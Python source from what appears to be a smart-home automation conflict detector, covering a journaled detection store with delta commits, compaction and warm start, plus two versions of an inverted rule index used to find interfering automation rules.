            kind: set() for kind in journal_format.CACHE_KINDS
        }
        for shard in snapshot.shards.values():
            caches = shard.get("caches", {})
            for kind in journal_format.CACHE_KINDS:
                for entry in caches.get(kind, []):
                    persisted[kind].add(tuple(entry[0]))
        self._journal = _JournalState(
            base=generation,
            next_seq=next_seq,
            records=next_seq,
            bytes=journal_bytes,
            persisted=persisted,
        )

    def commit_app(
        self,
        pipeline: DetectionPipeline,
        app_name: str,
        *,
        rulesets: Mapping[str, RuleSet] | None = None,
        frontend: dict | None = None,
        remove: bool = False,
    ) -> StoreCommit:
        """Durably record one keep/delete decision — O(changed app),
        not O(store).

        Appends a single delta record to the journal: the committed
        app's rules/signatures/fingerprint plus the solve-cache entries
        that appeared or vanished since the last durable state (or a
        removal marker with the cache keys the app took with it).  A
        load that replays the record observes exactly the state a full
        :meth:`save` would have written.  Falls back to a full save
        when delta mode is off or there is no usable base snapshot yet,
        and folds the journal into a fresh base (compaction) when it
        outgrows ``journal_max_records`` / ``journal_max_bytes``."""
        start = time.perf_counter()
        if not self.delta:
            written = self.save(pipeline, rulesets=rulesets, frontend=frontend)
            return StoreCommit(
                written, time.perf_counter() - start, full=True
            )
        if self._journal is None:
            self._init_journal()
        if self._journal is None:
            # No base to delta against — the first commit seeds one.
            written = self.save(pipeline, rulesets=rulesets, frontend=frontend)
            return StoreCommit(
                written, time.perf_counter() - start, full=True
            )
        state = self._journal
        installed = pipeline.installed_signatures()
        frontend_blob = frontend or {}
        if remove or app_name not in installed:
            record = journal_format.remove_record(
                state.next_seq, state.base, app_name, frontend_blob
            )
            prefix = f"{app_name}/"
            for kind in journal_format.CACHE_KINDS:
                state.persisted[kind] = {
                    key
                    for key in state.persisted[kind]
                    if not any(
                        isinstance(rule_id, str)
                        and rule_id.startswith(prefix)
                        for rule_id in key
                    )
                }
        else:
            sigs = installed[app_name]
            environment = sigs[0].environment if sigs else ""
            if rulesets is not None and app_name in rulesets:
                ruleset = rulesets[app_name]
            else:
                ruleset = RuleSet(
                    app_name=app_name, rules=[s.rule for s in sigs]
                )
            fingerprint = self._fingerprint(
                pipeline.engine.resolver, ruleset, sigs
            )
            # Diff the engine's cache export against what is already
            # persisted.  Adds keep export order (= engine insertion
            # order = the order an eager save writes); drops are sorted
            # for deterministic record bytes (replay treats them as a
            # set, so order carries no meaning).
            cache_add: dict[str, list] = {}
            cache_drop: dict[str, list] = {}
            for kind, entries in pipeline.engine.export_caches().items():
                eligible: dict[tuple, list] = {}
                for rule_ids, result in entries:
                    apps = [app_of_rule_id(r) for r in rule_ids]
                    if any(app not in installed for app in apps):
                        continue
                    eligible[tuple(rule_ids)] = [rule_ids, result]
                persisted = state.persisted.setdefault(kind, set())
                cache_add[kind] = [
                    entry
                    for key, entry in eligible.items()
                    if key not in persisted
                ]
                cache_drop[kind] = sorted(
                    list(key) for key in persisted if key not in eligible
                )
                state.persisted[kind] = set(eligible)
            record = journal_format.commit_record(
                state.next_seq,
                state.base,
                app_name,
                environment,
                fingerprint,
                [rule_to_json(rule) for rule in ruleset.rules],
                [signature_record(sig) for sig in sigs],
                cache_add,
                cache_drop,
                frontend_blob,
            )
        line = json.dumps(record, default=str)
        written = self.backend.append_journal(_JOURNAL_FILE, line)
        state.next_seq += 1
        state.records += 1
        state.bytes += written
        compacted = False
        if (
            state.records >= self.journal_max_records
            or state.bytes >= self.journal_max_bytes
        ):
            # Fold the journal into a fresh base.  save() recomputes
            # from the live pipeline — the source of truth the journal
            # replay is provably equivalent to — and resets the state.
            written += self.save(
                pipeline, rulesets=rulesets, frontend=frontend
            )
            compacted = True
        return StoreCommit(
            written, time.perf_counter() - start, compacted=compacted
        )

    def commit_frontend(
        self,
        pipeline: DetectionPipeline,
        frontend: dict,
        *,
        rulesets: Mapping[str, RuleSet] | None = None,
    ) -> StoreCommit:
        """Durably record a frontend-blob-only change — O(blob), no
        shard or directory edits.

        The delta path for state that lives entirely in the opaque
        frontend blob, e.g. the runtime monitor's observation ledger
        (DESIGN.md §16): one ``frontend`` journal record replaces the
        blob on replay and touches nothing else.  Falls back to a full
        save when delta mode is off or no base snapshot exists yet, and
        compacts on the same journal bounds as :meth:`commit_app`
        (``rulesets`` feeds that fallback/compaction save)."""
        start = time.perf_counter()
        if not self.delta:
            written = self.save(pipeline, rulesets=rulesets, frontend=frontend)
            return StoreCommit(
                written, time.perf_counter() - start, full=True
            )
        if self._journal is None:
            self._init_journal()
        if self._journal is None:
            written = self.save(pipeline, rulesets=rulesets, frontend=frontend)
            return StoreCommit(
                written, time.perf_counter() - start, full=True
            )
        state = self._journal
        record = journal_format.frontend_record(
            state.next_seq, state.base, frontend or {}
        )
        line = json.dumps(record, default=str)
        written = self.backend.append_journal(_JOURNAL_FILE, line)
        state.next_seq += 1
        state.records += 1
        state.bytes += written
        compacted = False
        if (
            state.records >= self.journal_max_records
            or state.bytes >= self.journal_max_bytes
        ):
            written += self.save(
                pipeline, rulesets=rulesets, frontend=frontend
            )
            compacted = True
        return StoreCommit(
            written, time.perf_counter() - start, compacted=compacted
        )

    def compact(self) -> bool:
        """Offline compaction: fold the durable base + journal into a
        fresh base generation without a live pipeline (the janitor /
        startup path), garbage-collecting deleted-app debris and
        orphan documents.  Returns ``False`` — changing nothing — when
        there is no usable snapshot or when a base shard is corrupt
        (folding then would make the degradation permanent: those apps
        currently re-sign transparently, and must keep doing so)."""
        loaded = self._load()
        if loaded is None:
            return False
        snapshot, _next_seq, _journal_bytes, generation, failed = loaded
        if failed:
            return False
        new_generation = generation + 1
        apps_by_env: dict[str, list[str]] = {}
        for app_name, app_record in snapshot.apps.items():
            if not isinstance(app_record, dict):
                continue
            env = app_record.get("environment", "")
            apps_by_env.setdefault(env, []).append(app_name)
        meta_apps: dict[str, dict] = {}
        shard_files: dict[str, str] = {}
        position = 0
        for env, app_names in apps_by_env.items():
            source = snapshot.shards.get(env)
            if source is None:
                continue  # directory debris without a shard: GC'd
            shard_apps: dict[str, dict] = {}
            for app_name in app_names:
                entry = source.get("apps", {}).get(app_name)
                if entry is None:
                    continue  # listed but absent from the shard: GC'd
                shard_apps[app_name] = entry
                meta_apps[app_name] = {
                    "environment": env,
                    "fingerprint": snapshot.apps[app_name].get(
                        "fingerprint"
                    ),
                }
            if not shard_apps:
                continue
            filename = f"shard-{new_generation:06d}-{position:04d}.json"
            position += 1
            shard_files[env] = filename
            self._write_atomic(
                filename,
                {
                    "environment": env,
                    "apps": shard_apps,
                    "caches": source.get(
                        "caches", journal_format.empty_caches()
                    ),
                },
            )
        meta_apps = {
            app_name: meta_apps[app_name]
            for app_name in snapshot.apps
            if app_name in meta_apps
        }
        self._write_atomic(
            _META_FILE,
            {
                "format": STORE_FORMAT,
                "schema": SCHEMA_VERSION,
                "generation": new_generation,
                "apps": meta_apps,
                "shards": shard_files,
                "frontend": snapshot.frontend,
            },
        )
        self.backend.delete(_JOURNAL_FILE)
        keep = set(shard_files.values())
        for stale in self.backend.list_docs("shard-"):
            if stale not in keep:
                self.backend.delete(stale)
        self.backend.sweep()
        persisted: dict[str, set[tuple]] = {
            kind: set() for kind in journal_format.CACHE_KINDS
        }
        for env in shard_files:
            caches = snapshot.shards[env].get("caches", {})
            for kind in journal_format.CACHE_KINDS:
                for entry in caches.get(kind, []):
                    persisted[kind].add(tuple(entry[0]))
        self._journal = _JournalState(
            base=new_generation,
            next_seq=0,
            records=0,
            bytes=0,
            persisted=persisted,
        )
        return True

    # ------------------------------------------------------------------
    # Loading

    def _load(
        self, environments: Iterable[str] | None = None
    ) -> "tuple[StoreSnapshot, int, int, int, set[str]] | None":
        """Parse base snapshot + journal replay; ``None`` when the
        store is missing, corrupted, or a different schema version.

        Returns ``(snapshot, next_seq, journal_bytes, generation,
        failed_environments)`` — the extra fields seed
        :meth:`_init_journal` so fresh commits extend the surviving
        consistent prefix, and let :meth:`compact` refuse to fold over
        a base shard that no longer parses."""
        meta_text = self.backend.read_doc(_META_FILE)
        if meta_text is None:
            return None
        try:
            meta = json.loads(meta_text)
        except ValueError:
            return None
        if not isinstance(meta, dict):
            return None
        if meta.get("format") != STORE_FORMAT:
            return None
        if meta.get("schema") != SCHEMA_VERSION:
            return None
        apps = meta.get("apps")
        shard_files = meta.get("shards")
        if not isinstance(apps, dict) or not isinstance(shard_files, dict):
            return None
        try:
            generation = int(meta.get("generation", 0))
        except (ValueError, TypeError):
            generation = 0
        wanted = None if environments is None else set(environments)
        shards: dict[str, dict] = {}
        failed: set[str] = set()
        for env, filename in shard_files.items():
            if wanted is not None and env not in wanted:
                continue
            text = self.backend.read_doc(str(filename))
            if text is None:
                failed.add(env)
                continue  # missing shard: its apps degrade to stale
            try:
                payload = json.loads(text)
            except ValueError:
                failed.add(env)
                continue  # corrupted shard: its apps degrade to stale
            if isinstance(payload, dict):
                shards[env] = payload
            else:
                failed.add(env)
        # Replay the journal's longest consistent prefix over the base:
        # strictly sequential seq for this base generation, parseable
        # JSON, applicable shape.  Anything after the first torn or
        # corrupt record is dropped — the state degrades to the last
        # acknowledged commit, never to a crash or a stale result.
        frontend_box = [meta.get("frontend") or {}]
        next_seq = 0
        journal_bytes = 0
        for line in self.backend.read_journal(_JOURNAL_FILE):
            try:
                record = json.loads(line)
            except ValueError:
                break
            if not isinstance(record, dict):
                break
            if record.get("base") != generation:
                # A record from before the last compaction: inert (its
                # state is already folded into the base), skip it.
                journal_bytes += len(line.encode("utf-8")) + 1
                continue
            if record.get("seq") != next_seq:
                break
            try:
                journal_format.apply_record(
                    record, apps, shards, frontend_box, wanted
                )
            except Exception:
                break
            next_seq += 1
            journal_bytes += len(line.encode("utf-8")) + 1
        snapshot = StoreSnapshot(
            schema=int(meta["schema"]),
            apps=apps,
            shards=shards,
            frontend=frontend_box[0],
        )
        return snapshot, next_seq, journal_bytes, generation, failed

    def load(
        self, environments: Iterable[str] | None = None
    ) -> StoreSnapshot | None:
        """Parse the store (base snapshot plus journal replay), or
        ``None`` when it is missing, corrupted, or written by a
        different schema version.

        ``environments`` restricts parsing to the named shards — the
        multi-home fleet path where one install should not pay for the
        whole snapshot.  Apps whose shard is not loaded validate as
        stale (their fingerprints report ``None``)."""
        loaded = self._load(environments)
        return None if loaded is None else loaded[0]

    def load_shard_index(
        self, environment: str, resolver: DeviceResolver
    ) -> tuple[dict[str, RuleSet], RuleIndex] | None:
        """Rebuild a single home's rulesets and inverted index straight
        from its shard — the per-home query path: nothing outside the
        shard (plus the journal tail) is read, and the index buckets
        are re-derived by re-signing under the *current* resolver, so
        they can never disagree with the live bindings."""
        snapshot = self.load(environments=[environment])
        if snapshot is None or environment not in snapshot.shards:
            return None
        rulesets = snapshot.rulesets()
        index = RuleIndex()
        builder = SignatureBuilder(resolver)
        for ruleset in rulesets.values():
            index.add_ruleset(builder.sign_ruleset(ruleset))
        return rulesets, index

    # ------------------------------------------------------------------
    # Warm start

    def _validate(
        self,
        pipeline: DetectionPipeline,
        snapshot: StoreSnapshot,
        rulesets: Iterable[RuleSet],
    ) -> tuple[list[str], list[str]]:
        """Split apps into warm (persisted fingerprint matches the
        current bindings) and stale (everything else)."""
        resolver = pipeline.engine.resolver
        warm: list[str] = []
        stale: list[str] = []
        for ruleset in rulesets:
            sigs = pipeline.engine.signatures.sign_ruleset(ruleset)
            recorded = snapshot.fingerprint(ruleset.app_name)
            if recorded is not None and recorded == app_fingerprint(
                resolver, ruleset, sigs
            ):
                warm.append(ruleset.app_name)
            else:
                stale.append(ruleset.app_name)
        return warm, stale

    def warm_start(
        self,
        resolver: DeviceResolver,
        rulesets: list[RuleSet] | None = None,
        include_intra_app: bool = True,
        index: RuleIndex | ShardedRuleIndex | None = None,
    ) -> WarmStart:
        """Replay a full store audit on a fresh pipeline, serving every
        solve of fingerprint-validated apps from the persisted caches.

        With an unchanged store the replay performs **zero** solver
        calls and reports a threat set identical to the cold audit; apps
        whose bindings changed (and pairs touching them) re-solve
        transparently.  ``rulesets`` defaults to the persisted ones, so
        a bare ``warm_start(resolver)`` re-audits the stored fleet."""
        pipeline = DetectionPipeline(
            resolver,
            include_intra_app=include_intra_app,
            index=ShardedRuleIndex() if index is None else index,
        )
        environments = None
        if rulesets is not None:
            environments = {
                environment_of(resolver, ruleset.app_name)
                for ruleset in rulesets
            }
        snapshot = self.load(environments=environments)
        if snapshot is None:
            audited = list(rulesets) if rulesets is not None else []
            return WarmStart(
                pipeline=pipeline,
                reports=pipeline.audit_store(audited),
                warm_apps=[],
                stale_apps=[ruleset.app_name for ruleset in audited],
                cold=True,
            )
        if rulesets is None:
            rulesets = list(snapshot.rulesets().values())
        warm, stale = self._validate(pipeline, snapshot, rulesets)
        valid = set(warm)
        for payload in snapshot.cache_payloads():
            pipeline.engine.import_caches(payload, valid)
        reports = pipeline.audit_store(rulesets)
        return WarmStart(
            pipeline=pipeline,
            reports=reports,
            warm_apps=warm,
            stale_apps=stale,
            cold=False,
        )

    def restore_into(
        self,
        pipeline: DetectionPipeline,
        rulesets: list[RuleSet] | None = None,
        snapshot: StoreSnapshot | None = None,
    ) -> WarmStart:
        """Load the persisted installation state into an existing (live)
        pipeline without re-reviewing warm apps.

        Fingerprint-validated apps are installed via
        :meth:`DetectionPipeline.restore_ruleset` (no detection, no
        solver calls — their past reviews were already decided); stale
        apps are re-audited through :meth:`DetectionPipeline.add_ruleset`
        and their fresh reports returned.  This is the companion app's
        load-on-startup path.  ``snapshot`` lets a caller that already
        parsed the store (e.g. for its frontend blob) skip a re-read.

        With no usable snapshot, any passed rulesets are still audited
        cold (all stale) — same degradation as :meth:`warm_start`."""
        if snapshot is None:
            snapshot = self.load()
        if snapshot is None:
            audited = list(rulesets) if rulesets is not None else []
            return WarmStart(
                pipeline=pipeline,
                reports=[pipeline.add_ruleset(r) for r in audited],
                warm_apps=[],
                stale_apps=[r.app_name for r in audited],
                cold=True,
            )
        if rulesets is None:
            rulesets = list(snapshot.rulesets().values())
        warm, stale = self._validate(pipeline, snapshot, rulesets)
        valid = set(warm)
        for payload in snapshot.cache_payloads():
            pipeline.engine.import_caches(payload, valid)
        reports: list[ThreatReport] = []
        for ruleset in rulesets:
            if ruleset.app_name in valid:
                pipeline.restore_ruleset(ruleset)
            else:
                reports.append(pipeline.add_ruleset(ruleset))
        return WarmStart(
            pipeline=pipeline,
            reports=reports,
            warm_apps=warm,
            stale_apps=stale,
            cold=False,
        )
