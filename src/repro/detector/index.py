"""Inverted rule indexes (pipeline layer 2, DESIGN.md §3).

The paper pre-stores the M_AR / M_GC mappings so candidate filtering is
cheap; :class:`RuleIndex` generalizes that idea to *every* threat
class.  Each installed rule's signature is filed under hash keys —
actuator identity, effect channel, trigger subscription, condition
read — so that when a new rule arrives, its candidate partners come
from a handful of dict lookups instead of a scan over all installed
rules.

The index answers an over-approximate question ("which installed rules
*could* form a threat pair with this one?"); the detection engine then
runs the exact pairwise tests and the solver only on those candidates.
Completeness argument, per threat class:

* AR needs equal actuator identities            -> ``writers_by_identity``
* GC needs opposite effects on a shared channel in the same
  environment                            -> ``movers_by_channel_effect``
* CT/SD/LT need A1 ↦ T2 (direct: action identity == trigger identity;
  environment: trigger channel ∈ action effects, same home), in either
  direction       -> ``triggers_by_identity`` / ``triggers_by_channel``
                     plus the writer/mover maps for the reverse direction
* EC/DC need A1 to touch C2's inputs (direct / environment / location
  mode)           -> ``conditions_by_identity`` / ``conditions_by_channel``
                     / ``mode_conditions`` and the reverse writer maps

Every candidate test in :mod:`repro.detector.signature` requires at
least one of those keys to collide, so no threat pair can be missed.
Channel keys are scoped by the signature's environment: channels are
physical features of one home, so a multi-home (zoned) resolver makes
cross-home channel buckets disjoint and candidate counts stay linear
in the store size.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterable

from repro.detector.signature import RuleSignature


@dataclass(slots=True)
class RuleIndex:
    """Inverted indexes over installed rule signatures."""

    # Actions, keyed by what they write / move.  Channel keys are
    # (environment, channel); the effect map additionally keys the
    # direction so Goal Conflict looks up opposite movers directly.
    writers_by_identity: dict[str, list[RuleSignature]] = field(
        default_factory=dict
    )
    movers_by_channel: dict[tuple[str, str], list[RuleSignature]] = field(
        default_factory=dict
    )
    movers_by_channel_effect: dict[
        tuple[str, str, str], list[RuleSignature]
    ] = field(default_factory=dict)
    # Triggers, keyed by what fires them.
    triggers_by_identity: dict[str, list[RuleSignature]] = field(
        default_factory=dict
    )
    triggers_by_channel: dict[tuple[str, str], list[RuleSignature]] = field(
        default_factory=dict
    )
    # Conditions, keyed by what they read.
    conditions_by_identity: dict[str, list[RuleSignature]] = field(
        default_factory=dict
    )
    conditions_by_channel: dict[tuple[str, str], list[RuleSignature]] = field(
        default_factory=dict
    )
    mode_conditions: dict[str, list[RuleSignature]] = field(
        default_factory=dict
    )
    mode_writers: dict[str, list[RuleSignature]] = field(default_factory=dict)
    # All indexed signatures in insertion order, per app.
    by_app: dict[str, list[RuleSignature]] = field(default_factory=dict)

    def __len__(self) -> int:
        return sum(len(sigs) for sigs in self.by_app.values())

    @property
    def apps(self) -> list[str]:
        return list(self.by_app)

    # ------------------------------------------------------------------
    # Maintenance

    def add(self, sig: RuleSignature) -> None:
        env = sig.environment
        self.by_app.setdefault(sig.app_name, []).append(sig)
        if sig.is_device_action and sig.action_identity is not None:
            self.writers_by_identity.setdefault(
                sig.action_identity, []
            ).append(sig)
        if sig.is_device_action:
            for channel, effect in sig.action_effects.items():
                self.movers_by_channel.setdefault(
                    (env, channel), []
                ).append(sig)
                self.movers_by_channel_effect.setdefault(
                    (env, channel, effect.value), []
                ).append(sig)
        if sig.sets_location_mode:
            self.mode_writers.setdefault(env, []).append(sig)
        if sig.trigger_fireable:
            if sig.trigger_identity is not None:
                self.triggers_by_identity.setdefault(
                    sig.trigger_identity, []
                ).append(sig)
            if sig.trigger_has_device and sig.trigger_channel is not None:
                self.triggers_by_channel.setdefault(
                    (env, sig.trigger_channel), []
                ).append(sig)
        for read in sig.condition_reads:
            self.conditions_by_identity.setdefault(
                read.identity, []
            ).append(sig)
            if read.channel is not None:
                self.conditions_by_channel.setdefault(
                    (env, read.channel), []
                ).append(sig)
        if sig.condition_uses_mode:
            self.mode_conditions.setdefault(env, []).append(sig)

    def add_ruleset(self, sigs: Iterable[RuleSignature]) -> None:
        for sig in sigs:
            self.add(sig)

    def remove_app(self, app_name: str) -> None:
        if self.by_app.pop(app_name, None) is None:
            return
        for mapping in (
            self.writers_by_identity,
            self.movers_by_channel,
            self.movers_by_channel_effect,
            self.triggers_by_identity,
            self.triggers_by_channel,
            self.conditions_by_identity,
            self.conditions_by_channel,
            self.mode_conditions,
            self.mode_writers,
        ):
            for key in list(mapping):
                kept = [s for s in mapping[key] if s.app_name != app_name]
                if kept:
                    mapping[key] = kept
                else:
                    del mapping[key]

    # ------------------------------------------------------------------
    # Candidate retrieval

    def candidates(
        self, sig: RuleSignature, exclude_app: str | None = None
    ) -> list[RuleSignature]:
        """Installed rules that could form a threat pair with ``sig``,
        deduplicated, in index insertion order per bucket."""
        env = sig.environment
        found: dict[str, RuleSignature] = {}

        def take(bucket: list[RuleSignature] | None) -> None:
            if not bucket:
                return
            for other in bucket:
                if other.app_name == exclude_app:
                    continue
                found.setdefault(other.rule_id, other)

        # sig's action against installed rules' actuators / triggers /
        # conditions.
        if sig.is_device_action:
            if sig.action_identity is not None:
                take(self.writers_by_identity.get(sig.action_identity))
                take(self.triggers_by_identity.get(sig.action_identity))
                take(self.conditions_by_identity.get(sig.action_identity))
            for channel, effect in sig.action_effects.items():
                take(
                    self.movers_by_channel_effect.get(
                        (env, channel, effect.opposite.value)
                    )
                )
                take(self.triggers_by_channel.get((env, channel)))
                take(self.conditions_by_channel.get((env, channel)))
        if sig.sets_location_mode:
            take(self.mode_conditions.get(env))
        # Installed rules' actions against sig's trigger / condition.
        if sig.trigger_fireable:
            if sig.trigger_identity is not None:
                take(self.writers_by_identity.get(sig.trigger_identity))
            if sig.trigger_has_device and sig.trigger_channel is not None:
                take(self.movers_by_channel.get((env, sig.trigger_channel)))
        for read in sig.condition_reads:
            take(self.writers_by_identity.get(read.identity))
            if read.channel is not None:
                take(self.movers_by_channel.get((env, read.channel)))
        if sig.condition_uses_mode:
            take(self.mode_writers.get(env))
        return list(found.values())
