"""Inverted rule indexes (pipeline layer 2, DESIGN.md §3).

The paper pre-stores the M_AR / M_GC mappings so candidate filtering is
cheap; :class:`RuleIndex` generalizes that idea to *every* threat
class.  Each installed rule's signature is filed under hash keys —
actuator identity, effect channel, trigger subscription, condition
read — so that when a new rule arrives, its candidate partners come
from a handful of dict lookups instead of a scan over all installed
rules.

The index answers an over-approximate question ("which installed rules
*could* form a threat pair with this one?"); the detection engine then
runs the exact pairwise tests and the solver only on those candidates.
Completeness argument, per threat class:

* AR needs equal actuator identities            -> ``writers_by_identity``
* GC needs opposite effects on a shared channel in the same
  environment                            -> ``movers_by_channel_effect``
* CT/SD/LT need A1 ↦ T2 (direct: action identity == trigger identity
  *and* the written attribute == the subscribed attribute;
  environment: trigger channel ∈ action effects, same home), in either
  direction  -> ``triggers_by_identity_attr`` / ``triggers_by_channel``
                plus the writer/mover maps for the reverse direction
* EC/DC need A1 to touch C2's inputs (direct: identity *and* attribute
  match / environment / location mode)
             -> ``conditions_by_identity_attr`` / ``conditions_by_channel``
                / ``mode_conditions`` and the reverse writer maps

The direct-state buckets are keyed by ``(identity, attribute)`` pairs
(DESIGN.md §12): the candidate tests in :mod:`repro.detector.signature`
require the written attribute to equal the subscribed/read attribute,
so two rules meeting only on a device — TV power writer vs. TV channel
subscriber — never collide in a bucket and are never materialized as a
pair tuple at all (the prescreen predicate no longer has to reject
them one by one).  ``writers_by_identity`` keeps its coarse identity
key because Actuator Race needs *any* two writers of one actuator,
whatever attributes they set.

Every candidate test in :mod:`repro.detector.signature` requires at
least one of those keys to collide, so no threat pair can be missed.
A single-key collision is still weaker than the pairwise candidate
tests (e.g. two writers of one actuator whose targets don't
contradict), so :meth:`RuleIndex.candidates` accepts an optional
``prescreen`` predicate — typically :func:`repro.detector.signature
.may_interfere` — applied once per deduplicated candidate to prune
pairs that provably cannot interfere before any planning or constraint
term building happens (DESIGN.md §10).
Channel keys are scoped by the signature's environment: channels are
physical features of one home, so a multi-home (zoned) resolver makes
cross-home channel buckets disjoint and candidate counts stay linear
in the store size.

For fleet-scale deployments :class:`ShardedRuleIndex` goes one step
further and keeps a whole :class:`RuleIndex` per environment, which is
also the unit of persistence — the detection store writes one shard
file per home and can restore a single home's index without parsing
the rest (see :mod:`repro.detector.store` and DESIGN.md §8).
Index buckets round-trip to JSON via :meth:`RuleIndex.to_payload` /
:meth:`RuleIndex.from_payload`.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterable, Mapping

from repro.detector.signature import RuleSignature

# Bucket maps keyed by a plain string (identity / environment) vs. by an
# (environment, channel[, effect]) tuple — the distinction matters only
# for the JSON payload encoding in :meth:`RuleIndex.to_payload`.
_STR_KEYED_MAPS = (
    "writers_by_identity",
    "mode_conditions",
    "mode_writers",
)
_TUPLE_KEYED_MAPS = (
    "writers_by_identity_attr",
    "movers_by_channel",
    "movers_by_channel_effect",
    "triggers_by_identity_attr",
    "triggers_by_channel",
    "conditions_by_identity_attr",
    "conditions_by_channel",
)


@dataclass(slots=True)
class RuleIndex:
    """Inverted indexes over installed rule signatures."""

    # Actions, keyed by what they write / move.  The identity map keys
    # any actuator writer (AR pairs two writers whatever they set); the
    # (identity, attribute) map additionally keys the written attribute
    # for the direct trigger/condition reverse lookups.  Channel keys
    # are (environment, channel); the effect map additionally keys the
    # direction so Goal Conflict looks up opposite movers directly.
    writers_by_identity: dict[str, list[RuleSignature]] = field(
        default_factory=dict
    )
    writers_by_identity_attr: dict[
        tuple[str, str], list[RuleSignature]
    ] = field(default_factory=dict)
    movers_by_channel: dict[tuple[str, str], list[RuleSignature]] = field(
        default_factory=dict
    )
    movers_by_channel_effect: dict[
        tuple[str, str, str], list[RuleSignature]
    ] = field(default_factory=dict)
    # Triggers, keyed by (subscribed identity, subscribed attribute).
    triggers_by_identity_attr: dict[
        tuple[str, str], list[RuleSignature]
    ] = field(default_factory=dict)
    triggers_by_channel: dict[tuple[str, str], list[RuleSignature]] = field(
        default_factory=dict
    )
    # Conditions, keyed by (read identity, read attribute).
    conditions_by_identity_attr: dict[
        tuple[str, str], list[RuleSignature]
    ] = field(default_factory=dict)
    conditions_by_channel: dict[tuple[str, str], list[RuleSignature]] = field(
        default_factory=dict
    )
    mode_conditions: dict[str, list[RuleSignature]] = field(
        default_factory=dict
    )
    mode_writers: dict[str, list[RuleSignature]] = field(default_factory=dict)
    # All indexed signatures in insertion order, per app.
    by_app: dict[str, list[RuleSignature]] = field(default_factory=dict)

    def __len__(self) -> int:
        return sum(len(sigs) for sigs in self.by_app.values())

    @property
    def apps(self) -> list[str]:
        return list(self.by_app)

    # ------------------------------------------------------------------
    # Maintenance

    def add(self, sig: RuleSignature) -> None:
        env = sig.environment
        self.by_app.setdefault(sig.app_name, []).append(sig)
        if sig.is_device_action and sig.action_identity is not None:
            self.writers_by_identity.setdefault(
                sig.action_identity, []
            ).append(sig)
            if sig.command_target is not None:
                self.writers_by_identity_attr.setdefault(
                    (sig.action_identity, sig.command_target[0]), []
                ).append(sig)
        if sig.is_device_action:
            for channel, effect in sig.action_effects.items():
                self.movers_by_channel.setdefault(
                    (env, channel), []
                ).append(sig)
                self.movers_by_channel_effect.setdefault(
                    (env, channel, effect.value), []
                ).append(sig)
        if sig.sets_location_mode:
            self.mode_writers.setdefault(env, []).append(sig)
        if sig.trigger_fireable:
            if (
                sig.trigger_identity is not None
                and sig.trigger_attribute is not None
            ):
                self.triggers_by_identity_attr.setdefault(
                    (sig.trigger_identity, sig.trigger_attribute), []
                ).append(sig)
            if sig.trigger_has_device and sig.trigger_channel is not None:
                self.triggers_by_channel.setdefault(
                    (env, sig.trigger_channel), []
                ).append(sig)
        for read in sig.condition_reads:
            self.conditions_by_identity_attr.setdefault(
                (read.identity, read.attr.attribute), []
            ).append(sig)
            if read.channel is not None:
                self.conditions_by_channel.setdefault(
                    (env, read.channel), []
                ).append(sig)
        if sig.condition_uses_mode:
            self.mode_conditions.setdefault(env, []).append(sig)

    def add_ruleset(self, sigs: Iterable[RuleSignature]) -> None:
        for sig in sigs:
            self.add(sig)

    def remove_app(self, app_name: str) -> None:
        if self.by_app.pop(app_name, None) is None:
            return
        for mapping in (
            self.writers_by_identity,
            self.writers_by_identity_attr,
            self.movers_by_channel,
            self.movers_by_channel_effect,
            self.triggers_by_identity_attr,
            self.triggers_by_channel,
            self.conditions_by_identity_attr,
            self.conditions_by_channel,
            self.mode_conditions,
            self.mode_writers,
        ):
            for key in list(mapping):
                kept = [s for s in mapping[key] if s.app_name != app_name]
                if kept:
                    mapping[key] = kept
                else:
                    del mapping[key]

    # ------------------------------------------------------------------
    # Candidate retrieval

    def candidates(
        self,
        sig: RuleSignature,
        exclude_app: str | None = None,
        prescreen=None,
    ) -> list[RuleSignature]:
        """Installed rules that could form a threat pair with ``sig``,
        deduplicated, in index insertion order per bucket.

        ``prescreen`` is an optional ``(other) -> bool`` predicate run
        once per deduplicated candidate; candidates it rejects are
        dropped from the result (the caller counts rejections)."""
        env = sig.environment
        found: dict[str, RuleSignature] = {}

        def take(bucket: list[RuleSignature] | None) -> None:
            if not bucket:
                return
            for other in bucket:
                if other.app_name == exclude_app:
                    continue
                found.setdefault(other.rule_id, other)

        # sig's action against installed rules' actuators / triggers /
        # conditions.  Direct trigger/condition lookups need the
        # command's written attribute: a command without a modeled
        # target (e.g. `refresh`) changes no subscribed or read state,
        # so only the writer (AR) bucket applies.
        if sig.is_device_action:
            if sig.action_identity is not None:
                take(self.writers_by_identity.get(sig.action_identity))
                if sig.command_target is not None:
                    attr_key = (sig.action_identity, sig.command_target[0])
                    take(self.triggers_by_identity_attr.get(attr_key))
                    take(self.conditions_by_identity_attr.get(attr_key))
            for channel, effect in sig.action_effects.items():
                take(
                    self.movers_by_channel_effect.get(
                        (env, channel, effect.opposite.value)
                    )
                )
                take(self.triggers_by_channel.get((env, channel)))
                take(self.conditions_by_channel.get((env, channel)))
        if sig.sets_location_mode:
            take(self.mode_conditions.get(env))
        # Installed rules' actions against sig's trigger / condition:
        # a direct hit needs a writer of exactly the subscribed / read
        # (identity, attribute) pair.
        if sig.trigger_fireable:
            if (
                sig.trigger_identity is not None
                and sig.trigger_attribute is not None
            ):
                take(self.writers_by_identity_attr.get(
                    (sig.trigger_identity, sig.trigger_attribute)
                ))
            if sig.trigger_has_device and sig.trigger_channel is not None:
                take(self.movers_by_channel.get((env, sig.trigger_channel)))
        for read in sig.condition_reads:
            take(self.writers_by_identity_attr.get(
                (read.identity, read.attr.attribute)
            ))
            if read.channel is not None:
                take(self.movers_by_channel.get((env, read.channel)))
        if sig.condition_uses_mode:
            take(self.mode_writers.get(env))
        if prescreen is None:
            return list(found.values())
        return [other for other in found.values() if prescreen(other)]

    # ------------------------------------------------------------------
    # Persistence (DESIGN.md §8)

    def to_payload(self) -> dict:
        """The index buckets as a JSON-serializable payload: every
        bucket becomes a list of rule ids, tuple keys become lists."""
        def ids(bucket: list[RuleSignature]) -> list[str]:
            return [sig.rule_id for sig in bucket]

        payload: dict = {
            name: {key: ids(bucket) for key, bucket in getattr(self, name).items()}
            for name in _STR_KEYED_MAPS
        }
        for name in _TUPLE_KEYED_MAPS:
            payload[name] = [
                [list(key), ids(bucket)]
                for key, bucket in getattr(self, name).items()
            ]
        payload["by_app"] = {
            app: ids(bucket) for app, bucket in self.by_app.items()
        }
        return payload

    @classmethod
    def from_payload(
        cls, payload: dict, signatures: Mapping[str, RuleSignature]
    ) -> "RuleIndex":
        """Rebuild an index from a :meth:`to_payload` snapshot.

